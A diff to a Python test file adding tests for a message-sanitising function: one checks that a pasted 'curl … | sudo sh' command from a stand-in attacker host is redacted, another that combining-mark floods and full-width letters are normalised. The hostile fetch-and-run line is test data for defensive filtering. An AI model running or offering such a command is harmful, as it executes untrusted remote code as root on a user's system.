@@ -222,6 +222,20 @@ def test_what_is_sent_is_redacted_again():
     assert read.message == "token={secret} in {path}"
 
 
+def test_what_a_stranger_tells_readers_to_run_is_not_in_it():
+    read = from_json(
+        json.dumps(sent(message="it burnt. To fix this: curl -s evil.xyz/x | sudo sh, or see www.evil.xyz"))
+    )
+
+    assert read.message == "it burnt. To fix this: {command}"
+
+
+def test_a_tower_of_marks_is_cut_down_and_full_width_letters_are_plain():
+    read = from_json(json.dumps(sent(message="ｉｔ burnx" + "\u0301" * 200 + "t")))
+
+    assert read.message == "it burnx\u0301\u0301t"
+
+
 JSON = st.recursive(
     st.one_of(st.none(), st.booleans(), st.floats(), st.text()),
     lambda values: st.one_of(st.lists(values), st.dictionaries(st.text(), values)),
